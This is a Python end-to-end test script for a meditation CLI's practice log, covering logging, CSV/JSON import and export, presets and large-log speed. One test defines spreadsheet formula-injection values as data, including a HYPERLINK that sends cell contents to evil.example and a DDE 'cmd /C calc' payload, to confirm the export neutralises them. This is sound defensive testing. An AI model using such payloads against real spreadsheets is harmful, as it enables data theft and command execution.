#!/usr/bin/env python3
"""The practice log end to end, against the real binary and real daemons: a foreground
sit, a daemon sit stopped after some seconds and a guided meditation each appear once in
`history --json` with their heard length and end reason; renders and previews appear
nowhere; a sit whose daemon was killed is closed at the next start with what was heard;
the CSV export round-trips through `history import`; names from file tags cannot become
spreadsheet formulas in the CSV, and still round-trip exactly; imports refuse what is not
ours (a `scheduled` that is not true/false, the year 0000) whole, naming the line or
record; `history --since` past the last entry says so, not that the log is empty; a log
of 100,000 entries answers `history --limit 5` and `stats` in well under a second without
growing the process (rows read by SQL pages and totals, not all loaded).

Run from the repository root: python3 Tests/cli/practice-tests.py (BIN overrides the
binary). Prints ok:/FAILED: lines and "N passed, N failed"; exits 1 on failure. Every
daemon started is killed by its PID.
"""
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

ROOT = os.path.abspath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
os.chdir(ROOT)
BIN = os.path.abspath(os.environ.get("BIN", ".build/debug/stillmoment"))
passed = failed = 0


def check(cond, text):
    global passed, failed
    if cond:
        passed += 1
        print(f"ok: {text}", flush=True)
    else:
        failed += 1
        print(f"FAILED: {text}", flush=True)


class Case:
    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="sm-practice-")
        self.env = dict(os.environ, STILLMOMENT_HOME=self.dir + "/home", XDG_RUNTIME_DIR=self.dir + "/run",
                        LANG="C.UTF-8", STILLMOMENT_IDLE_EXIT="60")
        self.env.pop("LC_ALL", None)
        os.makedirs(self.dir + "/run", mode=0o700)
        self.pids = set()

    def run(self, *args, timeout=120):
        p = subprocess.run([BIN, *args], env=self.env, capture_output=True, timeout=timeout, stdin=subprocess.DEVNULL)
        self.note_daemon()
        return p.returncode, p.stdout.decode("utf-8", "replace"), p.stderr.decode("utf-8", "replace")

    def note_daemon(self):
        try:
            with open(self.dir + "/run/stillmoment/daemon.lock") as f:
                pid = int(f.read().split()[0])
                self.pids.add(pid)
                return pid
        except (OSError, ValueError, IndexError):
            return None

    def history(self):
        rc, out, err = self.run("history", "--json")
        return json.loads(out) if rc == 0 else None

    def close(self):
        self.note_daemon()
        for pid in self.pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        shutil.rmtree(self.dir, ignore_errors=True)


def wait_gone(pid, seconds=10):
    end = time.time() + seconds
    while time.time() < end:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return True
        try:
            os.waitpid(pid, os.WNOHANG)
        except ChildProcessError:
            pass
        time.sleep(0.05)
    return False


def entry_json(i, name="sit", teacher=None, scheduled=False, start="2026-11-24T07:00:00+01:00"):
    return {"id": f"00000000-0000-4000-8000-{i:012d}", "kind": "guided" if teacher else "timer", "name": name,
            "teacher": teacher, "preset": None, "meditationId": None, "start": start, "plannedSeconds": 600,
            "heardSeconds": 600, "endReason": "completed", "scheduled": scheduled}


def write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    return path


def formula_cases():
    """history --csv neutralises cells a spreadsheet would take for a formula; import undoes it."""
    import csv
    import io
    names = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
             "\tTab", "\rCR", "'=already quoted", "''@two quotes", "'plain quote", "plain", "a=b", "=", "'"]
    c, other = Case(), Case()
    try:
        entries = [entry_json(i + 1, name=n, teacher=n if i % 2 else "T", start=f"2026-11-{i + 1:02d}T07:00:00+01:00")
                   for i, n in enumerate(names)]
        src = write(c.dir + "/in.json", json.dumps(entries))
        rc, out, err = c.run("history", "import", src)
        rc2, text, err2 = c.run("history", "--csv")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        by_id = {row[0]: row for row in rows[1:]}
        first = by_id.get(entries[0]["id"], [""] * 4)
        check(rc == 0 and rc2 == 0 and len(rows) == len(names) + 1 and not live and first[2] == "'" + names[0],
              f"history --csv starts no cell with = + - @ tab or CR (a formula is prefixed with ') ({live[:3]}; {first[2:4]})")
        path = write(c.dir + "/log.csv", text)
        rc3, o3, e3 = other.run("history", "import", path)
        back = {e["id"]: e for e in (other.history() or [])}
        same = [(e["name"], e["teacher"]) == (back.get(e["id"], {}).get("name"), back.get(e["id"], {}).get("teacher"))
                for e in entries]
        rc4, text2, e4 = other.run("history", "--csv")
        check(rc3 == 0 and all(same) and text2 == text,
              f"export → import keeps every name and teacher exactly, quotes and all ({o3.strip()} {e3.strip()}; {same})")
    finally:
        c.close()
        other.close()


def strict_import_cases():
    """Imports refuse what is not ours, whole, naming the line or record; out-of-range history says so."""
    c = Case()
    try:
        good = [entry_json(1), entry_json(2, start="2026-11-25T07:00:00+01:00")]
        rc, out, err = c.run("history", "import", write(c.dir + "/good.json", json.dumps(good)))
        rc0, csv_text, err0 = c.run("history", "--csv")
        before = c.history()
        lines = csv_text.split("\r\n")
        cases = []
        for value in ["maybe", "2", "TRUE", "yes"]:
            bad = lines[:]
            bad[2] = bad[2].rsplit(",", 1)[0] + "," + value
            new = [entry_json(3), entry_json(4, start="2026-11-26T07:00:00+01:00")]
            bad = bad[:2] + [",".join(["00000000-0000-4000-8000-000000000003"] + bad[1].split(",")[1:])] + bad[2:]
            cases.append((f"CSV scheduled '{value}'", "line 4", "\r\n".join(bad)))
        for value in ["maybe", 2, 1, "true", None]:
            recs = [entry_json(5), entry_json(6)]
            recs[1]["scheduled"] = value
            cases.append((f"JSON scheduled {value!r}", "record 2", json.dumps(recs)))
        zero = lines[:]
        zero[1] = zero[1].replace("2026-11-24T", "0000-11-24T")
        cases.append(("CSV start in the year 0000", "line 2", "\r\n".join(zero)))
        recs = [entry_json(7), entry_json(8), entry_json(9, start="0000-01-01T00:00:00Z")]
        cases.append(("JSON start in the year 0000", "record 3", json.dumps(recs)))
        for label, where, text in cases:
            rc, out, err = c.run("history", "import", write(c.dir + "/bad.txt", text))
            check(rc != 0 and len(err.strip().splitlines()) == 1 and where in err and c.history() == before,
                  f"import refuses {label} in one line naming {where}, storing nothing (exit {rc}: {err.strip()})")
        de = dict(c.env, LANG="de_DE.UTF-8")
        p = subprocess.run([BIN, "history", "import", c.dir + "/bad.txt"], env=de, capture_output=True, timeout=60)
        err = p.stderr.decode()
        check(p.returncode != 0 and ("Datensatz 3" in err or "Zeile" in err) and "0000" in err, f"…and in German ({err.strip()})")

        rc, out, err = c.run("history", "--since", "9999-12-31")
        check(rc == 0 and "yet" not in out and "9999-12-31" in out,
              f"history --since after the last entry says nothing is in that range, not that the log is empty ({out.strip()})")
        rc, out, err = c.run("history", "--until", "1999-01-01")
        check(rc == 0 and "yet" not in out and "1999-01-01" in out, f"…and so does --until before the first ({out.strip()})")
        p = subprocess.run([BIN, "history", "--since", "2027-01-01", "--until", "2027-02-01"], env=de, capture_output=True, timeout=60)
        out = p.stdout.decode()
        check(p.returncode == 0 and "noch nichts" not in out and "2027" in out, f"…in German too ({out.strip()})")
        empty = Case()
        try:
            rc, out, err = empty.run("history", "--since", "9999-12-31")
            check(rc == 0 and out.strip() == "nothing in the practice log yet", f"an empty log is still called empty ({out.strip()})")
        finally:
            empty.close()
    finally:
        c.close()


# Runs a command from a fresh, small Python (so the peak RSS the kernel reports for it is
# not this test's own, which a child inherits until exec): prints "status maxrss-KB".
MEASURE = """import os, sys
pid = os.fork()
if pid == 0:
    fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.dup2(fd, 1)
    os.execv(sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
"""


def peak_rss(c, *args):
    """Wall seconds, peak RSS (KB), exit status and standard output of one run."""
    out_path = c.dir + "/measured.out"
    t0 = time.perf_counter()
    p = subprocess.run([sys.executable, "-c", MEASURE, out_path, BIN, *args], env=c.env, capture_output=True, timeout=300)
    wall = time.perf_counter() - t0
    rc, rss = (int(x) for x in p.stdout.split())
    with open(out_path, encoding="utf-8") as f:
        return wall, rss, rc, f.read()


def large_log_cases(n=100_000):
    """A log of n entries written straight into the app's table: pages and numbers by SQL."""
    import random
    import sqlite3
    c, empty = Case(), Case()
    try:
        c.run("history")                       # the store, migrated
        r = random.Random(5)
        now = int(time.time())
        rows = [(f"{r.getrandbits(32):08x}-0000-4000-8000-{i:012d}", "timer", "sit", None, r.choice(["T", None]),
                 r.choice(["morning", None]), now - (n - i) * 600, 3600, 600_000, 60_000 * (1 + i % 30), None, "completed", 0)
                for i in range(n)]
        with sqlite3.connect(c.dir + "/home/library.sqlite") as db:
            db.executemany("INSERT INTO practice VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)", rows)
        last, total, morning = rows[-1][0], sum(row[9] for row in rows), sum(1 for row in rows if row[5])
        del rows
        empty.run("history")
        base = min(peak_rss(empty, "stats")[1] for _ in range(2))
        wall, rss, rc, out = min(peak_rss(c, "history", "--limit", "5") for _ in range(2))
        lines = out.strip().splitlines()
        check(rc == 0 and len(lines) == 5 and lines[-1].startswith(last[:8]) and wall < 1.0 and rss - base < 10_000,
              f"history --limit 5 of {n:,} entries: the last 5, in {wall * 1000:.0f} ms, RSS {rss / 1024:.1f} MB "
              f"({(rss - base) / 1024:+.1f} MB over an empty log)")
        wall, rss, rc, out = min(peak_rss(c, "stats", "--json") for _ in range(2))
        s = json.loads(out) if rc == 0 else {}
        check(rc == 0 and s.get("all") == {"sits": n, "milliseconds": total} and s.get("longestMilliseconds") == 30 * 60_000
              and s.get("byPreset", {}).get("morning", {}).get("sits") == morning and wall < 1.0
              and rss - base < 10_000,
              f"stats of {n:,} entries: every sit counted, in {wall * 1000:.0f} ms, RSS {rss / 1024:.1f} MB "
              f"({(rss - base) / 1024:+.1f} MB over an empty log)")
        wall, rss, rc, out = peak_rss(c, "history", "--json")
        check(rc == 0 and len(json.loads(out)) == n and rss - base < 20_000,
              f"history --json of {n:,} entries is streamed: RSS {rss / 1024:.1f} MB ({(rss - base) / 1024:+.1f} MB), {wall:.1f} s")
    finally:
        c.close()
        empty.close()


def main():
    large_log_cases()
    formula_cases()
    strict_import_cases()
    if os.environ.get("ONLY_NEW"):
        print(f"{passed} passed, {failed} failed")
        return 1 if failed else 0
    c = Case()
    try:
        tone = c.dir + "/tone.mp3"
        subprocess.run(["sox", "-q", "-n", "-r", "44100", "-c", "2", "-b", "16", c.dir + "/t.wav", "synth", "20", "sine", "300",
                        "vol", "0.2"], check=True)
        subprocess.run(["lame", "--quiet", "--tt", "Evening", "--ta", "Tara", c.dir + "/t.wav", tone], check=True)

        # A foreground sit on the null device: once, completed, heard = its length.
        rc, out, err = c.run("timer", "30s", "--preparation", "2s", "--device", "null", "--foreground")
        h = c.history()
        check(rc == 0 and h is not None and len(h) == 1, f"a foreground sit is logged once (exit {rc}, {len(h or [])} entries)")
        if h:
            e = h[0]
            check(e["kind"] == "timer" and e["endReason"] == "completed" and e["heardSeconds"] == 30 and e["plannedSeconds"] == 30,
                  f"…as a completed timer of 30 s heard, the preparation not counted ({e})")

        # Renders and previews are not practice.
        rc, out, err = c.run("timer", "20s", "--output", c.dir + "/r.wav")
        rc2, out2, err2 = c.run("import", tone)
        rc3, out3, err3 = c.run("play", "Evening", "--output", c.dir + "/g.wav")
        rc4, out4, err4 = c.run("preview", "Evening", "--device", "null")
        n = len(c.history() or [])
        check(rc == 0 and rc2 == 0 and rc3 == 0 and rc4 == 0 and n == 1, f"renders and a preview are not logged ({n} entries; exits {rc},{rc2},{rc3},{rc4})")

        # A guided meditation in the foreground: logged with its teacher.
        rc, out, err = c.run("play", "Evening", "--device", "null", "--foreground")
        h = c.history() or []
        g = [e for e in h if e["kind"] == "guided"]
        check(rc == 0 and len(g) == 1 and g[0]["teacher"] == "Tara" and g[0]["name"] == "Evening" and g[0]["endReason"] == "completed"
              and abs(g[0]["heardSeconds"] - 20) < 0.1, f"a guided meditation is logged once with its teacher and length ({g})")

        # A daemon sit stopped after some seconds.
        rc, out, err = c.run("timer", "24h", "--device", "null", "--detach")
        time.sleep(1.5)
        rc2, out2, err2 = c.run("stop")
        time.sleep(1.5)
        h = c.history() or []
        d = [e for e in h if e["plannedSeconds"] == 86400]
        check(rc == 0 and rc2 == 0 and len(d) == 1 and d[0]["endReason"] == "stopped" and 0 < d[0]["heardSeconds"] < 86400,
              f"a daemon sit stopped after some seconds is logged once as stopped ({d})")

        # A daemon killed mid-sit: the next daemon closes the entry with what was heard.
        rc, out, err = c.run("timer", "24h", "--device", "null", "--detach")
        pid = c.note_daemon()
        time.sleep(6.5)            # past one 5-s checkpoint
        if pid:
            os.kill(pid, signal.SIGKILL)
            wait_gone(pid)
        rc2, out2, err2 = c.run("status")      # no daemon: nothing started
        rc3, out3, err3 = c.run("timer", "10s", "--preparation", "off", "--device", "null", "--detach")
        time.sleep(2)
        h = c.history() or []
        k = [e for e in h if e["plannedSeconds"] == 86400 and e["endReason"] == "failed"]
        check(pid and len(k) == 1 and k[0]["heardSeconds"] > 0,
              f"a sit whose daemon was killed is closed at the next start as failed, with what was heard ({k})")

        # CSV export round-trips through import into a new home, without duplicates.
        rc, csv, err = c.run("history", "--csv")
        path = c.dir + "/log.csv"
        with open(path, "w") as f:
            f.write(csv)
        other = Case()
        try:
            rc1, o1, e1 = other.run("history", "import", path)
            rc2, o2, e2 = other.run("history", "import", path)
            rc3, csv2, e3 = other.run("history", "--csv")
            check(rc1 == 0 and rc2 == 0 and not o1.startswith("imported 0") and o2.startswith("imported 0") and csv2 == csv,
                  f"the CSV export imports into a new home, twice without duplicates, and exports the same ({o1.strip()}; {o2.strip()})")
        finally:
            other.close()
        # An open sit in the daemon, finished: logged once as finished, with no planned length.
        rc, out, err = c.run("timer", "open", "--preparation", "off", "--device", "null", "--detach")
        time.sleep(1.0)
        rc2, out2, err2 = c.run("finish")
        time.sleep(2.0)
        h = c.history() or []
        o = [e for e in h if e["endReason"] == "finished"]
        check(rc == 0 and rc2 == 0 and len(o) == 1 and o[0]["plannedSeconds"] == 0 and o[0]["heardSeconds"] > 0
              and o[0]["name"] == "open sit", f"a finished open sit is logged once as finished ({o})")
        rc, out, err = c.run("finish")
        check(rc != 0 and len(err.strip().splitlines()) == 1, f"finish with nothing playing says so in one line ({err.strip()})")

        # Presets: saved after checking, used with overrides, logged by name.
        rc, out, err = c.run("preset", "save", "morning", "25m", "--interval", "5m", "--ambience", "forest")
        rc2, out2, err2 = c.run("preset", "save", "broken", "25m", "--gong", "no-such-gong")
        rc3, out3, err3 = c.run("preset", "show", "morning", "--json")
        shown = json.loads(out3) if rc3 == 0 else {}
        check(rc == 0 and rc2 == 2 and shown.get("options", {}).get("duration", {}).get("source") == "preset"
              and shown["options"].get("gong", {}).get("source") == "default",
              f"preset save checks now (bad gong exit {rc2}), show says where each value comes from")
        rc, out, err = c.run("timer", "--preset", "morning", "--duration", "40s", "--preparation", "off", "--device", "null", "--foreground")
        h = c.history() or []
        p = [e for e in h if e.get("preset") == "morning"]
        check(rc == 0 and len(p) == 1 and p[0]["plannedSeconds"] == 40 and p[0]["name"] == "morning",
              f"timer --preset with an override plays and is logged under the preset ({p})")
        rc, out, err = c.run("preset", "rename", "morning", "dawn")
        rc2, out2, err2 = c.run("preset", "list", "--json")
        names = [x["name"] for x in json.loads(out2)] if rc2 == 0 else []
        rc3, out3, err3 = c.run("preset", "delete", "dawn")
        rc4, out4, err4 = c.run("timer", "--preset", "dawn", "--device", "null", "--foreground")
        check(rc == 0 and names == ["dawn"] and rc3 == 0 and rc4 == 2 and len(err4.strip().splitlines()) == 1,
              f"preset rename, list, delete; a deleted preset is refused in one line ({err4.strip()})")

        # The plan is what plays: --plan --json equals the render, to the frame.
        args = ["timer", "--sections", "sit 1m, walk 30s, sit 1m", "--random-bells", "20s-30s", "--seed", "9", "--preparation", "3s"]
        rc, out, err = c.run(*args, "--plan", "--json")
        plan = json.loads(out) if rc == 0 else {}
        rc2, out2, err2 = c.run(*args, "--output", c.dir + "/plan.wav")
        frames = 0
        if rc2 == 0:
            import wave
            try:
                with wave.open(c.dir + "/plan.wav") as w:
                    frames = w.getnframes()
            except wave.Error:     # 32-bit float: read the data chunk's size
                data = open(c.dir + "/plan.wav", "rb").read()
                i = data.find(b"data")
                frames = int.from_bytes(data[i + 4:i + 8], "little") // 8
        reasons = [g["reason"] for g in plan.get("gongs", [])]
        check(rc == 0 and rc2 == 0 and round(plan.get("total", 0) * 44100) == frames and reasons.count("section") == 3
              and "random" in reasons and plan.get("seed") == "9",
              f"--plan --json gives the render's length to the frame ({frames} frames) and every gong with its reason ({reasons})")
        rc3, out3, err3 = c.run(*args, "--plan", "--json")
        check(out3 == out, "the same seed gives the same plan")

        rc, out, err = c.run("stats", "--json")
        s = json.loads(out) if rc == 0 else {}
        check(s.get("all", {}).get("sits") == len(c.history() or []), f"stats counts every logged sit ({s.get('all')})")
    finally:
        c.close()
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
